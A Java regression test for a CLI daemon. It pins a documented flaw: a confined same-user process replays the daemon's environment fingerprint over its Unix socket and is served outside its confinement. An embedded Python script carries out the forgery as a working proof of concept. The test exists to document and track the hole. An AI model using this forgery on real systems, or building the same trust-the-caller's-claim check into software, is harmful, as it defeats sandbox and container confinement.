package dev.codeagent.cli.daemon;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attack (issue 29, round 4): the background process serves a call only when the caller's environment equals its own
 * ("never less isolation than in its own JVM", docs/cli.md) — but the environment it compares is the one the caller
 * <em>says</em> in its {@code V} frame. A process of the same user held to tighter limits (here a lower hard
 * open-files limit, as a container, a sandboxed IDE or a tight control group would impose) sends the process's own
 * fingerprint (it is in the process's {@code .info} file, or is simply what an ordinary shell of that user prints) and
 * is served: its command then runs with the background process's limits, namespaces and control group, outside the
 * confinement it was started in.
 *
 * <p>What would close it: the process decides the caller's environment from the kernel (the peer's pid from
 * {@code SO_PEERCRED}, then {@code /proc/PID/…}), never from the caller's word; Java 17 gives no peer pid. Until then
 * this test pins the hole that docs/cli.md ("What the rule does not do") states, so the two stay true together: when
 * it starts failing, the process has learnt to check, and the docs must say so.
 */
class CallerEnvironmentForgeryTest {

    @TempDir
    Path tmp;

    Path socket;
    CliServer server;
    Thread serving;
    WarmSandboxes sandboxes;

    @BeforeEach
    void start() throws IOException {
        Path run = Files.createDirectory(tmp.resolve("run"),
                PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
        socket = run.resolve("cli.sock");
        sandboxes = new WarmSandboxes();
        server = new CliServer(socket, "b1", sandboxes);
        serving = new Thread(server::serve);
        serving.start();
    }

    @AfterEach
    void stop() throws InterruptedException {
        server.close();
        serving.join(5000);
        sandboxes.close();
    }

    @Test
    void servesALyingSameUserCallerOnItsWordAsTheDocsSay() throws Exception {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/prlimit")) && Files.isExecutable(Path.of("/usr/bin/python3")),
                "needs prlimit and /usr/bin/python3");
        // what the process compares callers with: readable by any process of this user (and written to its .info file)
        Path claimed = Files.writeString(tmp.resolve("claimed-environment"), CallerEnvironment.current());
        String script = String.join("\n",
                "import socket, struct, sys",
                "def frame(t, b): return t + struct.pack('>I', len(b)) + b",
                "hard = [l for l in open('/proc/self/limits') if l.startswith('Max open files')][0].split()[4]",
                "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)",
                "s.connect(sys.argv[1])",
                "s.settimeout(10)",
                "claimed = open(sys.argv[2], 'rb').read()",
                "s.sendall(frame(b'H', b'codeagent-cli/2 b1') + frame(b'V', claimed) + frame(b'D', b'/')"
                        + " + frame(b'A', b'version') + frame(b'T', b'\\0'))",
                "answer = s.recv(1)",
                "print('hard-nofile', hard, 'answer', answer.decode())",
                "");
        Path py = Files.writeString(tmp.resolve("confined-caller.py"), script);
        // the confined caller: the same user, its hard open-files limit lowered to 64 (the test JVM's is higher)
        Process p = new ProcessBuilder("/usr/bin/prlimit", "--nofile=64:64", "/usr/bin/python3", py.toString(),
                socket.toString(), claimed.toString()).redirectErrorStream(true).start();
        assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
        String result = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
        assertThat(result).as("the caller really is held to a hard limit of 64").startsWith("hard-nofile 64 ");
        // 'h' (served): the process believed the claim although the caller's real limits differ from its own
        assertThat(result).as("the documented limit: a lying same-user caller is served (docs/cli.md)")
                .isEqualTo("hard-nofile 64 answer h");
    }
}
